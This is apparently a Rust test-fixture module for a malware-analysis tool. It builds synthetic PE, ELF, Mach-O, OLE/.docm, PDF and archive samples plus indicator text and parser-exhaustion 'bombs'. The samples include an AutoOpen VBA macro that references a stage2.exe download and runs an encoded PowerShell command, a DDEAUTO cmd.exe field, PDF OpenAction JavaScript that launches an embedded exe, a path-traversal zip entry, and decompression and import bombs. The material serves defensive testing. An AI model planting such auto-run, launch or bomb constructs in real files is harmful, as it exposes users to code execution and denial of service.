//! A corpus the tests build themselves: a PE32+ with imports, exports, a resource, a PDB path and an
//! overlay (bytes by hand); ELF and Mach-O objects (the `object` writer); an OLE2 document with a VBA
//! project (cfb); a .docm with vbaProject.bin, an external template and DDE (zip); a PDF with
//! OpenAction JavaScript, a URI and an embedded file (lopdf); zip / tar / tar.gz / gz archives; and
//! text full of indicators, defanged ones included.
#![allow(dead_code)]

pub mod malformed;
pub mod packed;

use std::io::{Cursor, Write};

pub const MACRO_SOURCE: &str = "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n    Dim s\r\n    s = \"http://macro.evil-domain.com/stage2.exe\"\r\n    Set o = CreateObject(\"WScript.Shell\")\r\n    o.Run \"powershell -enc AAAA\"\r\nEnd Sub\r\n";

fn put16(b: &mut [u8], at: usize, v: u16) {
    b[at..at + 2].copy_from_slice(&v.to_le_bytes());
}
fn put32(b: &mut [u8], at: usize, v: u32) {
    b[at..at + 4].copy_from_slice(&v.to_le_bytes());
}
fn put64(b: &mut [u8], at: usize, v: u64) {
    b[at..at + 8].copy_from_slice(&v.to_le_bytes());
}
fn puts(b: &mut [u8], at: usize, s: &[u8]) {
    b[at..at + s.len()].copy_from_slice(s);
}

/// The PE's COFF timestamp: 2020-09-13T12:26:40Z.
pub const PE_TIMESTAMP: u32 = 1_600_000_000;

/// A PE32+ x86-64 console executable: .text (with URL strings), .rdata (imports of
/// KERNEL32.dll!CreateMutexA and WS2_32.dll ordinal 23, an export RunMe, a CodeView PDB path),
/// .rsrc (one RT_RCDATA holding a zip), and a zip overlay.
pub fn pe() -> Vec<u8> {
    let mut b = vec![0u8; 0xA00];
    // DOS header
    puts(&mut b, 0, b"MZ");
    put32(&mut b, 0x3c, 0x80);
    puts(
        &mut b,
        0x40,
        b"This program cannot be run in DOS mode.\r\r\n$",
    );
    // PE + COFF
    let pe = 0x80;
    puts(&mut b, pe, b"PE\0\0");
    put16(&mut b, pe + 4, 0x8664);
    put16(&mut b, pe + 6, 3);
    put32(&mut b, pe + 8, PE_TIMESTAMP);
    put16(&mut b, pe + 20, 240);
    put16(&mut b, pe + 22, 0x0022);
    // Optional header (PE32+)
    let o = pe + 24;
    put16(&mut b, o, 0x20b);
    b[o + 2] = 14;
    put32(&mut b, o + 4, 0x200);
    put32(&mut b, o + 16, 0x1000); // entry
    put32(&mut b, o + 20, 0x1000);
    put64(&mut b, o + 24, 0x1_4000_0000);
    put32(&mut b, o + 32, 0x1000);
    put32(&mut b, o + 36, 0x200);
    put16(&mut b, o + 40, 6);
    put16(&mut b, o + 48, 6);
    put32(&mut b, o + 56, 0x4000); // size of image
    put32(&mut b, o + 60, 0x200); // size of headers
    put16(&mut b, o + 68, 3); // console
    put16(&mut b, o + 70, 0x8160);
    put64(&mut b, o + 72, 0x10_0000);
    put64(&mut b, o + 80, 0x1000);
    put64(&mut b, o + 88, 0x10_0000);
    put64(&mut b, o + 96, 0x1000);
    put32(&mut b, o + 108, 16);
    let dd = o + 112;
    let dir = |b: &mut Vec<u8>, i: usize, rva: u32, size: u32| {
        put32(b, dd + i * 8, rva);
        put32(b, dd + i * 8 + 4, size);
    };
    dir(&mut b, 0, 0x2180, 0x80); // export
    dir(&mut b, 1, 0x2000, 60); // import
    dir(&mut b, 2, 0x3000, 0x200); // resource
    dir(&mut b, 6, 0x2200, 28); // debug
    dir(&mut b, 12, 0x2080, 0x30); // IAT
    // Section table
    let st = o + 240;
    let sec = |b: &mut Vec<u8>, i: usize, name: &[u8], va: u32, raw: u32, size: u32, ch: u32| {
        let s = st + i * 40;
        puts(b, s, name);
        put32(b, s + 8, size);
        put32(b, s + 12, va);
        put32(b, s + 16, size);
        put32(b, s + 20, raw);
        put32(b, s + 36, ch);
    };
    sec(&mut b, 0, b".text", 0x1000, 0x200, 0x200, 0x6000_0020);
    sec(&mut b, 1, b".rdata", 0x2000, 0x400, 0x400, 0x4000_0040);
    sec(&mut b, 2, b".rsrc", 0x3000, 0x800, 0x200, 0x4000_0040);
    // .text: ret, then strings.
    b[0x200] = 0xC3;
    puts(&mut b, 0x210, b"http://evil.example.com/payload.bin\0");
    puts(&mut b, 0x240, b"Global\\MaljanTestMutex\0");
    let wide: Vec<u8> = "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    puts(&mut b, 0x260, &wide);
    // .rdata at file 0x400 = RVA 0x2000
    let r = |rva: u32| 0x400 + (rva - 0x2000) as usize;
    // import descriptors: kernel32, ws2_32, null
    put32(&mut b, r(0x2000), 0x2040);
    put32(&mut b, r(0x2000) + 12, 0x2120);
    put32(&mut b, r(0x2000) + 16, 0x2080);
    put32(&mut b, r(0x2014), 0x2060);
    put32(&mut b, r(0x2014) + 12, 0x2130);
    put32(&mut b, r(0x2014) + 16, 0x20A0);
    put64(&mut b, r(0x2040), 0x2100);
    put64(&mut b, r(0x2060), 0x8000_0000_0000_0017);
    put64(&mut b, r(0x2080), 0x2100);
    put64(&mut b, r(0x20A0), 0x8000_0000_0000_0017);
    puts(&mut b, r(0x2102), b"CreateMutexA\0");
    puts(&mut b, r(0x2120), b"KERNEL32.dll\0");
    puts(&mut b, r(0x2130), b"WS2_32.dll\0");
    // export directory
    let e = r(0x2180);
    put32(&mut b, e + 4, PE_TIMESTAMP);
    put32(&mut b, e + 12, 0x21E0);
    put32(&mut b, e + 16, 1);
    put32(&mut b, e + 20, 1);
    put32(&mut b, e + 24, 1);
    put32(&mut b, e + 28, 0x21B0);
    put32(&mut b, e + 32, 0x21B8);
    put32(&mut b, e + 36, 0x21C0);
    put32(&mut b, r(0x21B0), 0x1000);
    put32(&mut b, r(0x21B8), 0x21D0);
    put16(&mut b, r(0x21C0), 0);
    puts(&mut b, r(0x21D0), b"RunMe\0");
    puts(&mut b, r(0x21E0), b"sample.exe\0");
    // debug directory + RSDS
    let d = r(0x2200);
    put32(&mut b, d + 4, PE_TIMESTAMP);
    put32(&mut b, d + 12, 2);
    let pdb = b"C:\\build\\maljan\\evil.pdb\0";
    put32(&mut b, d + 16, (24 + pdb.len()) as u32);
    put32(&mut b, d + 20, 0x2220);
    put32(&mut b, d + 24, r(0x2220) as u32);
    puts(&mut b, r(0x2220), b"RSDS");
    puts(&mut b, r(0x2224), &[0x11; 16]);
    put32(&mut b, r(0x2234), 3);
    puts(&mut b, r(0x2238), pdb);
    // .rsrc at file 0x800 = RVA 0x3000: RT_RCDATA / 101 / 1033 -> a zip
    let rs = 0x800;
    put16(&mut b, rs + 14, 1);
    put32(&mut b, rs + 16, 10);
    put32(&mut b, rs + 20, 0x8000_0018);
    put16(&mut b, rs + 0x18 + 14, 1);
    put32(&mut b, rs + 0x18 + 16, 101);
    put32(&mut b, rs + 0x18 + 20, 0x8000_0030);
    put16(&mut b, rs + 0x30 + 14, 1);
    put32(&mut b, rs + 0x30 + 16, 1033);
    put32(&mut b, rs + 0x30 + 20, 0x48);
    let payload = small_zip("inner.txt", b"resource payload");
    assert!(
        payload.len() <= 0x200 - 0x60,
        "resource zip too large: {}",
        payload.len()
    );
    put32(&mut b, rs + 0x48, 0x3060);
    put32(&mut b, rs + 0x48 + 4, payload.len() as u32);
    puts(&mut b, rs + 0x60, &payload);
    // Overlay: a zip after the last section.
    b.extend_from_slice(&small_zip("overlay.txt", b"overlay data"));
    b
}

/// The imphash pefile computes for [`pe`].
pub fn pe_imphash() -> String {
    use md5::{Digest, Md5};
    hex::encode(Md5::digest(b"kernel32.createmutexa,ws2_32.socket"))
}

pub fn small_zip(name: &str, data: &[u8]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    w.start_file(name, opts).unwrap();
    w.write_all(data).unwrap();
    w.finish().unwrap().into_inner()
}

/// An ELF relocatable object (x86-64) with a .text section and a global function `payload_main`.
pub fn elf() -> Vec<u8> {
    use object::{
        Architecture, BinaryFormat, Endianness, SectionKind, SymbolFlags, SymbolKind, SymbolScope,
        write,
    };
    let mut obj = write::Object::new(BinaryFormat::Elf, Architecture::X86_64, Endianness::Little);
    let text = obj.section_id(write::StandardSection::Text);
    let off = obj.append_section_data(text, &[0x55, 0x48, 0x89, 0xe5, 0xc3], 16);
    obj.add_symbol(write::Symbol {
        name: b"payload_main".to_vec(),
        value: off,
        size: 5,
        kind: SymbolKind::Text,
        scope: SymbolScope::Dynamic,
        weak: false,
        section: write::SymbolSection::Section(text),
        flags: SymbolFlags::None,
    });
    let data = obj.add_section(
        Vec::new(),
        b".rodata.c2".to_vec(),
        SectionKind::ReadOnlyData,
    );
    obj.append_section_data(data, b"http://elf-c2.example.net/beacon\0", 1);
    obj.write().unwrap()
}

/// A Mach-O object (x86-64) with __TEXT,__text.
pub fn macho() -> Vec<u8> {
    use object::{Architecture, BinaryFormat, Endianness, write};
    let mut obj = write::Object::new(
        BinaryFormat::MachO,
        Architecture::X86_64,
        Endianness::Little,
    );
    let text = obj.section_id(write::StandardSection::Text);
    obj.append_section_data(text, &[0x55, 0x48, 0x89, 0xe5, 0x5d, 0xc3], 16);
    obj.write().unwrap()
}

/// MS-OVBA "compression" with literal tokens only (valid, if no smaller).
pub fn ovba_compress(data: &[u8]) -> Vec<u8> {
    let mut out = vec![1u8];
    for chunk in data.chunks(3584) {
        let mut body = Vec::new();
        for group in chunk.chunks(8) {
            body.push(0);
            body.extend_from_slice(group);
        }
        let header: u16 = 0xB000 | (body.len() as u16 + 2 - 3);
        out.extend_from_slice(&header.to_le_bytes());
        out.extend_from_slice(&body);
    }
    out
}

fn record(out: &mut Vec<u8>, id: u16, data: &[u8]) {
    out.extend_from_slice(&id.to_le_bytes());
    out.extend_from_slice(&(data.len() as u32).to_le_bytes());
    out.extend_from_slice(data);
}

/// A decompressed VBA `dir` stream describing one module, Module1, at source offset 0.
pub fn vba_dir() -> Vec<u8> {
    vba_dir_of(1)
}

/// A decompressed VBA `dir` stream describing `modules` modules that all name the stream Module1.
pub fn vba_dir_of(modules: usize) -> Vec<u8> {
    let mut d = Vec::new();
    record(&mut d, 0x0001, &1u32.to_le_bytes()); // PROJECTSYSKIND: win32
    record(&mut d, 0x0003, &1252u16.to_le_bytes()); // PROJECTCODEPAGE
    d.extend_from_slice(&0x0009u16.to_le_bytes()); // PROJECTVERSION (odd size field)
    d.extend_from_slice(&4u32.to_le_bytes());
    d.extend_from_slice(&[0xAF, 0x01, 0, 0, 0x06, 0]);
    record(&mut d, 0x000F, &1u16.to_le_bytes()); // PROJECTMODULES count
    record(&mut d, 0x0013, &0xFFFFu16.to_le_bytes()); // PROJECTCOOKIE
    for _ in 0..modules {
        record(&mut d, 0x0019, b"Module1");
        record(&mut d, 0x001A, b"Module1");
        record(
            &mut d,
            0x0032,
            &"Module1"
                .encode_utf16()
                .flat_map(u16::to_le_bytes)
                .collect::<Vec<_>>(),
        );
        record(&mut d, 0x0031, &0u32.to_le_bytes());
        record(&mut d, 0x0021, &[]); // MODULETYPE procedural
        record(&mut d, 0x002B, &[]); // module terminator
    }
    record(&mut d, 0x0010, &[]); // dir terminator
    d
}

/// An OLE2 compound file with a VBA project under `prefix` ("Macros/" for .doc, "" for vbaProject.bin).
pub fn ole_with_vba(prefix: &str, word: bool) -> Vec<u8> {
    let mut cf = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    if word {
        cf.create_stream("/WordDocument")
            .unwrap()
            .write_all(&[0xEC, 0xA5, 0xC1, 0x00])
            .unwrap();
        cf.create_storage("/Macros").unwrap();
    }
    let vba = format!("/{prefix}VBA");
    cf.create_storage(&vba).unwrap();
    cf.create_stream(format!("{vba}/dir"))
        .unwrap()
        .write_all(&ovba_compress(&vba_dir()))
        .unwrap();
    cf.create_stream(format!("{vba}/Module1"))
        .unwrap()
        .write_all(&ovba_compress(MACRO_SOURCE.as_bytes()))
        .unwrap();
    cf.create_stream(format!("{vba}/_VBA_PROJECT"))
        .unwrap()
        .write_all(&[0xCC, 0x61, 0xFF, 0xFF, 0x00])
        .unwrap();
    cf.create_stream(format!("/{prefix}PROJECT"))
        .unwrap()
        .write_all(b"ID=\"{00000000-0000-0000-0000-000000000000}\"\r\nModule=Module1\r\n")
        .unwrap();
    cf.flush().unwrap();
    cf.into_inner().into_inner()
}

/// A .docm: vbaProject.bin, an external attachedTemplate, an external hyperlink, a DDEAUTO field
/// and an embedded OLE object.
pub fn docm() -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    let mut part = |name: &str, data: &[u8]| {
        w.start_file(name, opts).unwrap();
        w.write_all(data).unwrap();
    };
    part("[Content_Types].xml", br#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>"#);
    part("_rels/.rels", br#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#);
    part("word/document.xml", br#"<?xml version="1.0"?><w:document><w:body><w:p><w:r><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"</w:instrText></w:r></w:p></w:body></w:document>"#);
    part("word/_rels/document.xml.rels", br#"<?xml version="1.0"?><Relationships><Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://phish.example.org/login?a=1&amp;b=2" TargetMode="External"/><Relationship Id="rId6" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="embeddings/oleObject1.bin"/></Relationships>"#);
    part("word/_rels/settings.xml.rels", br#"<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://template.evil-domain.com/t.dotm" TargetMode="External"/></Relationships>"#);
    part("word/settings.xml", b"<w:settings/>");
    part("word/vbaProject.bin", &ole_with_vba("", false));
    part("word/embeddings/oleObject1.bin", &ole_with_vba("", false));
    w.finish().unwrap().into_inner()
}

/// A PDF: one page, OpenAction JavaScript, a URI link annotation, an embedded file.
pub fn pdf() -> Vec<u8> {
    use lopdf::{Document, Object, Stream, StringFormat, dictionary};
    let mut doc = Document::with_version("1.7");
    let pages_id = doc.new_object_id();
    let js = doc.add_object(dictionary! {
        "S" => "JavaScript",
        "JS" => Object::String(b"app.alert('maljan'); this.exportDataObject({cName: 'invoice.exe', nLaunch: 2});".to_vec(), StringFormat::Literal),
    });
    let uri = doc.add_object(dictionary! {
        "Type" => "Annot", "Subtype" => "Link", "Rect" => vec![0.into(), 0.into(), 100.into(), 100.into()],
        "A" => dictionary! { "S" => "URI", "URI" => Object::String(b"http://pdf-landing.example.com/x".to_vec(), StringFormat::Literal) },
    });
    let content = doc.add_object(Stream::new(
        dictionary! {},
        b"BT /F1 12 Tf 72 712 Td (Hello) Tj ET".to_vec(),
    ));
    let page = doc.add_object(dictionary! {
        "Type" => "Page", "Parent" => pages_id, "Contents" => content, "Annots" => vec![uri.into()],
        "MediaBox" => vec![0.into(), 0.into(), 612.into(), 792.into()],
    });
    doc.objects.insert(
        pages_id,
        Object::Dictionary(
            dictionary! { "Type" => "Pages", "Kids" => vec![page.into()], "Count" => 1 },
        ),
    );
    let ef = doc.add_object(Stream::new(
        dictionary! { "Type" => "EmbeddedFile" },
        b"MZ not really".to_vec(),
    ));
    let spec = doc.add_object(dictionary! {
        "Type" => "Filespec",
        "F" => Object::String(b"invoice.exe".to_vec(), StringFormat::Literal),
        "EF" => dictionary! { "F" => ef },
    });
    let catalog = doc.add_object(dictionary! {
        "Type" => "Catalog", "Pages" => pages_id, "OpenAction" => js,
        "Names" => dictionary! { "EmbeddedFiles" => dictionary! { "Names" => vec![Object::String(b"invoice.exe".to_vec(), StringFormat::Literal), spec.into()] } },
    });
    doc.trailer.set("Root", catalog);
    let mut out = Vec::new();
    doc.save_to(&mut out).unwrap();
    out
}

/// A zip with a traversal name and a double extension.
pub fn zip_archive() -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, data) in [
        ("docs/readme.txt", &b"hello hello hello"[..]),
        ("../../evil.sh", b"#!/bin/sh\n"),
        ("invoice.pdf.exe", &pe()[..]),
    ] {
        w.start_file(name, opts).unwrap();
        w.write_all(data).unwrap();
    }
    let _ = w.set_comment("maljan test archive");
    w.finish().unwrap().into_inner()
}

pub fn tar_archive() -> Vec<u8> {
    let mut t = tar::Builder::new(Vec::new());
    for (name, data) in [("a/one.txt", &b"one"[..]), ("a/two.bin", &[0u8; 1000][..])] {
        let mut h = tar::Header::new_ustar();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_mtime(PE_TIMESTAMP as u64);
        h.set_cksum();
        t.append_data(&mut h, name, data).unwrap();
    }
    t.into_inner().unwrap()
}

pub fn gzip(data: &[u8], name: &str) -> Vec<u8> {
    let mut e = flate2::GzBuilder::new()
        .filename(name)
        .write(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

pub const IOC_TEXT: &str = "Beacon to hxxps://c2[.]bad-actor[.]ru/gate.php?id=7 and http://plain.example.com/x.\n\
Fallback 185.220.101[.]45 and 10.0.0.1; IPv6 2001:db8::dead:beef.\n\
Mail ops[@]bad-actor[.]ru or admin@example.org.\n\
Hashes: 44d88612fea8a8f36de82e1278abb02f 3395856ce81f2b7382dee72602f798b642f14140\n\
275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f\n\
Persist HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater\n\
Drop C:\\Users\\Public\\Libraries\\svc.exe and /tmp/.cache/kworker\n";

// Executables built to exhaust parsers (issue 18): counts that claim far more than the file holds.

/// A PE32+ whose one section holds `descriptors` import descriptors that all share one thunk
/// array of `thunks` entries naming one function (50,000 of each: 1.4 MB on disk, 2.5 billion
/// imports as claimed).
pub fn import_bomb_pe(descriptors_n: usize, thunks_n: usize) -> Vec<u8> {
    const SECTION_RVA: u32 = 0x1000;
    const SECTION_RAW: usize = 0x200;
    let descriptors = 0;
    let thunks = (descriptors_n + 1) * 20 + 4; // after the null descriptor, 8-aligned
    let hint_name = thunks + (thunks_n + 1) * 8;
    let dll_name = hint_name + 8;
    let section_size = (dll_name + 16).next_multiple_of(0x200);
    let rva = |off: usize| SECTION_RVA + off as u32;
    let mut b = vec![0u8; SECTION_RAW + section_size];
    b[..2].copy_from_slice(b"MZ");
    put32(&mut b, 0x3c, 0x80);
    let pe = 0x80;
    b[pe..pe + 4].copy_from_slice(b"PE\0\0");
    put16(&mut b, pe + 4, 0x8664);
    put16(&mut b, pe + 6, 1);
    put32(&mut b, pe + 8, 1_600_000_000);
    put16(&mut b, pe + 20, 240);
    put16(&mut b, pe + 22, 0x0022);
    let o = pe + 24;
    put16(&mut b, o, 0x20b);
    put32(&mut b, o + 16, SECTION_RVA);
    put64(&mut b, o + 24, 0x1_4000_0000);
    put32(&mut b, o + 32, 0x1000);
    put32(&mut b, o + 36, 0x200);
    put16(&mut b, o + 40, 6);
    put16(&mut b, o + 48, 6);
    put32(&mut b, o + 56, SECTION_RVA + section_size as u32);
    put32(&mut b, o + 60, 0x200);
    put16(&mut b, o + 68, 3);
    put32(&mut b, o + 108, 16);
    put32(&mut b, o + 112 + 8, rva(descriptors));
    put32(&mut b, o + 112 + 12, (descriptors_n * 20) as u32);
    let st = o + 240;
    b[st..st + 6].copy_from_slice(b".idata");
    put32(&mut b, st + 8, section_size as u32);
    put32(&mut b, st + 12, SECTION_RVA);
    put32(&mut b, st + 16, section_size as u32);
    put32(&mut b, st + 20, SECTION_RAW as u32);
    put32(&mut b, st + 36, 0xC000_0040);
    let s = SECTION_RAW;
    for i in 0..descriptors_n {
        let d = s + descriptors + i * 20;
        put32(&mut b, d, rva(thunks));
        put32(&mut b, d + 12, rva(dll_name));
        put32(&mut b, d + 16, rva(thunks));
    }
    for i in 0..thunks_n {
        put64(&mut b, s + thunks + i * 8, u64::from(rva(hint_name)));
    }
    b[s + hint_name + 2..s + hint_name + 4].copy_from_slice(b"A\0");
    b[s + dll_name..s + dll_name + 8].copy_from_slice(b"k32.dll\0");
    b
}

/// A 64-bit Mach-O executable with `segments` LC_SEGMENT_64 commands of 72 bytes (room for no
/// section), each claiming 0xFFFFFFFF sections.
pub fn section_bomb_macho(segments: usize) -> Vec<u8> {
    let len = 32 + segments * 72;
    let mut b = vec![0u8; len];
    put32(&mut b, 0, 0xfeed_facf);
    put32(&mut b, 4, 0x0100_0007);
    put32(&mut b, 8, 3);
    put32(&mut b, 12, 2);
    put32(&mut b, 16, segments as u32);
    put32(&mut b, 20, (segments * 72) as u32);
    for i in 0..segments {
        let c = 32 + i * 72;
        put32(&mut b, c, 0x19);
        put32(&mut b, c + 4, 72);
        b[c + 8..c + 12].copy_from_slice(b"__X\0");
        put64(&mut b, c + 32, len as u64); // vmsize
        put32(&mut b, c + 56, 7);
        put32(&mut b, c + 60, 5);
        put32(&mut b, c + 64, 0xFFFF_FFFF); // nsects
    }
    b
}

/// A 64-bit Mach-O with one segment over the whole file and an LC_DYLD_INFO_ONLY whose bind
/// opcodes and export trie are `bind` and `trie`.
pub fn macho_with_dyld_info(bind: &[u8], trie: &[u8]) -> Vec<u8> {
    let data = 32 + 72 + 48;
    let len = data + bind.len() + trie.len();
    let mut b = vec![0u8; len];
    put32(&mut b, 0, 0xfeed_facf);
    put32(&mut b, 4, 0x0100_0007);
    put32(&mut b, 8, 3);
    put32(&mut b, 12, 2);
    put32(&mut b, 16, 2);
    put32(&mut b, 20, 72 + 48);
    let seg = 32;
    put32(&mut b, seg, 0x19);
    put32(&mut b, seg + 4, 72);
    b[seg + 8..seg + 14].copy_from_slice(b"__TEXT");
    put64(&mut b, seg + 32, len as u64);
    put64(&mut b, seg + 48, len as u64);
    put32(&mut b, seg + 56, 5);
    put32(&mut b, seg + 60, 5);
    let info = seg + 72;
    put32(&mut b, info, 0x8000_0022);
    put32(&mut b, info + 4, 48);
    put32(&mut b, info + 16, data as u32);
    put32(&mut b, info + 20, bind.len() as u32);
    put32(&mut b, info + 40, (data + bind.len()) as u32);
    put32(&mut b, info + 44, trie.len() as u32);
    b[data..data + bind.len()].copy_from_slice(bind);
    b[data + bind.len()..].copy_from_slice(trie);
    b
}

/// Bind opcodes that name one symbol, then bind it 2^62 times in one repeat opcode.
pub fn bind_bomb_macho() -> Vec<u8> {
    let mut bind = vec![0x40, b'_', b'x', 0, 0x70, 0x00];
    bind.push(0xc0);
    bind.extend([0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x40]); // 2^62
    bind.extend([0x00, 0x00]); // skip 0, then DONE
    macho_with_dyld_info(&bind, &[])
}

/// An export trie whose root's only edge leads back to the root.
pub fn trie_loop_macho() -> Vec<u8> {
    macho_with_dyld_info(&[], &[0x00, 0x01, b'a', 0x00, 0x00])
}

/// An OOXML package whose `copies` relationship parts all share one deflate stream of 16 MiB of
/// spaces (64 copies: about a megabyte on disk, a gigabyte inflated).
pub fn inflation_bomb_docx(copies: usize) -> Vec<u8> {
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    let mut one = zip::ZipWriter::new(Cursor::new(Vec::new()));
    one.start_file("blob", opts).unwrap();
    one.write_all(&vec![b' '; 16 << 20]).unwrap();
    let one = one.finish().unwrap().into_inner();
    let mut source = zip::ZipArchive::new(Cursor::new(one)).unwrap();

    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    w.start_file("[Content_Types].xml", opts).unwrap();
    w.write_all(br#"<?xml version="1.0"?><Types/>"#).unwrap();
    w.start_file("word/document.xml", opts).unwrap();
    w.write_all(b"<w:document/>").unwrap();
    for i in 0..copies {
        let blob = source.by_name("blob").unwrap();
        w.raw_copy_file_rename(blob, format!("word/_rels/part{i}.xml.rels"))
            .unwrap();
    }
    w.finish().unwrap().into_inner()
}

/// An OLE2 file whose VBA `dir` stream lists `modules` modules that all name one module stream of
/// `source_len` bytes of source (1000 of 1 MiB: a megabyte on disk, a gigabyte to read).
pub fn shared_module_ole(modules: usize, source_len: usize) -> Vec<u8> {
    let mut cf = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    cf.create_storage("/VBA").unwrap();
    cf.create_stream("/VBA/dir")
        .unwrap()
        .write_all(&ovba_compress(&vba_dir_of(modules)))
        .unwrap();
    let source: Vec<u8> = MACRO_SOURCE.bytes().cycle().take(source_len).collect();
    cf.create_stream("/VBA/Module1")
        .unwrap()
        .write_all(&ovba_compress(&source))
        .unwrap();
    cf.flush().unwrap();
    cf.into_inner().into_inner()
}
